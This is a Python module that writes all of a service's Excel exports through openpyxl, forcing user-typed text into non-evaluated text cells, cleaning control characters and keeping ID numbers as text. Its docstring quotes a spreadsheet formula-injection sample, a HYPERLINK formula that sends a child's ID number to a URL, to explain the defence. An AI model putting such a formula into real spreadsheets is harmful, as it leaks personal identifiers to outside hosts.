"""The one writer of every .xlsx the service produces (附件1/2/3, the venue ledger, the weekly plan,
the monthly report): a value a person typed is written as text, never as a formula.

What a cell holds, and why:

- Text is always a text cell (`t="inlineStr"`), whatever it starts with. openpyxl on its own turns
  a str starting with "=" into a formula and "#N/A" into an error value, so a child's name
  `=HYPERLINK("http://…?x="&C2,"点击")` entered through sync became a live formula able to send
  the ID number in C2 to a URL (CWE-1236). A text cell is shown and edited as text by Excel, WPS and
  LibreOffice and is never evaluated, so the text is kept exactly: no quote or apostrophe is added
  in front of "=", "+", "-", "@", tab or CR (that would change a name on its way back in).
- Text goes through `backend.core.text.clean`, the cleaner the calendar feed uses too: the
  characters Hulei refuses at input (C0 controls other than tab, LF and CR; DEL; lone surrogates;
  U+FFFE, U+FFFF; XML cannot carry most of them) are dropped, since text stored before they were
  refused may still hold them ("某\x03人" is written 某人). A carriage return becomes a line feed
  (CR LF and a lone CR alike): XML readers turn a raw CR into LF anyway, and LF is the line break
  Excel and WPS put in a cell (Alt+Enter).
- Excel holds at most 32,767 characters (UTF-16 code units) in a cell; longer text is cut there,
  never inside a surrogate pair. Nothing the service stores comes close.
- Identifiers (ID numbers, phone numbers, credit codes) are text even when given as numbers, so
  Excel never shows 9.90101E+17 or drops a leading zero: name their columns in `text_columns`.
- Numbers, booleans and dates are written as such; a timezone-aware datetime is written as its
  Asia/Shanghai wall-clock time.

Known limit: OOXML readers decode `_xHHHH_` inside text (Excel shows "_x0041_" as "A"); such text
is written as it is (openpyxl and the importer read it back unchanged).

Sheets are written in openpyxl's write-only mode: rows stream to disk, memory stays constant.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from pathlib import Path
from typing import IO, Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import TYPE_STRING, Cell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from backend.core import clock
from backend.core import text as texts

# Excel's limit on the characters of one cell (UTF-16 code units).
MAX_CELL_CHARS = 32_767
_BOLD = Font(bold=True)
_CAPTION = Font(bold=True, size=14)
_WRAP = Alignment(wrap_text=True, vertical="center")
# Sheet names: at most 31 characters, none of these.
_SHEET_NAME = re.compile(r"[\[\]:*?/\\]")


def clean_text(text: str) -> str:
    """`text` as a cell will hold it: cleaned (`backend.core.text.clean`: CR as LF, refused
    characters dropped), cut at Excel's limit (never inside a surrogate pair)."""
    text = texts.clean(text)
    if len(text) <= MAX_CELL_CHARS // 2:
        return text
    units = 0
    for index, char in enumerate(text):
        units += 2 if ord(char) > 0xFFFF else 1
        if units > MAX_CELL_CHARS:
            return text[:index]
    return text


def _plain(value: Any, as_text: bool) -> tuple[Any, bool]:
    """The value to store and whether it is text."""
    if value is None:
        return None, False
    if isinstance(value, str):
        return clean_text(value), True
    if as_text:
        if isinstance(value, float) and value.is_integer():
            value = int(value)
        return clean_text(str(value)), True
    if isinstance(value, bool | int | float):
        return value, False
    if isinstance(value, datetime):
        if value.tzinfo is not None:
            value = clock.china_time(value).replace(tzinfo=None)
        return value, False
    if isinstance(value, date):
        return value, False
    return clean_text(str(value)), True


def cell(sheet: WriteOnlyWorksheet, value: Any, *, as_text: bool = False, font: Font | None = None,
         alignment: Alignment | None = None) -> Cell:
    """One cell of a write-only sheet: text forced to a text cell (see the module docstring)."""
    plain, text = _plain(value, as_text)
    out = WriteOnlyCell(sheet, value=plain)
    if text and plain != "":
        out.data_type = TYPE_STRING  # after the value: openpyxl made "=…" a formula, "#N/A" an error
    if font is not None:
        out.font = font
    if alignment is not None:
        out.alignment = alignment
    return out


def sheet_name(title: str) -> str:
    """A title Excel accepts as a sheet name (31 characters, no []:*?/\\)."""
    return _SHEET_NAME.sub("_", clean_text(title))[:31] or "Sheet"


@dataclass
class Table:
    """One sheet: optional caption rows (附件N, title), a bold frozen header, the rows, a note."""

    title: str
    header: Sequence[str]
    rows: Iterable[Sequence[Any]]
    captions: Sequence[str] = ()
    text_columns: frozenset[int] = frozenset()  # 0-based columns holding identifiers
    widths: Sequence[float] | None = None  # column widths in characters; from the header if None
    note: str | None = None
    written: int = field(default=0, init=False)  # data rows written, once saved


def _width(name: str) -> float:
    # CJK characters take two columns; the header's first line decides (options follow on others).
    first = name.split("\n", 1)[0]
    return max(8.0, min(40.0, sum(2 if ord(c) > 0x2E7F else 1 for c in first) + 4.0))


def _write_table(book: Workbook, table: Table) -> None:
    ws = book.create_sheet(sheet_name(table.title))
    assert isinstance(ws, WriteOnlyWorksheet)
    widths = table.widths or [_width(h) for h in table.header]
    columns = ws.column_dimensions  # type: ignore[attr-defined]  # set by Worksheet._setup
    for i, width in enumerate(widths, start=1):
        columns[get_column_letter(i)].width = width
    header_row = len(table.captions) + 1
    ws.freeze_panes = f"A{header_row + 1}"
    ws.print_title_rows = f"{header_row}:{header_row}"
    for caption in table.captions:
        ws.append([cell(ws, caption, font=_CAPTION)])
    ws.append([cell(ws, h, font=_BOLD, alignment=_WRAP) for h in table.header])
    for row in table.rows:
        ws.append([cell(ws, v, as_text=i in table.text_columns) for i, v in enumerate(row)])
        table.written += 1
    if table.note:
        ws.append([])
        ws.append([cell(ws, table.note)])


def write(tables: Sequence[Table], target: str | Path | IO[bytes]) -> None:
    """Write the tables, one sheet each, to a path or a binary file."""
    book = Workbook(write_only=True)
    for table in tables:
        _write_table(book, table)
    book.save(target)


def xlsx_bytes(tables: Sequence[Table]) -> bytes:
    """The tables as an .xlsx file in memory (small workbooks: the plan, the report, venues)."""
    out = io.BytesIO()
    write(tables, out)
    return out.getvalue()
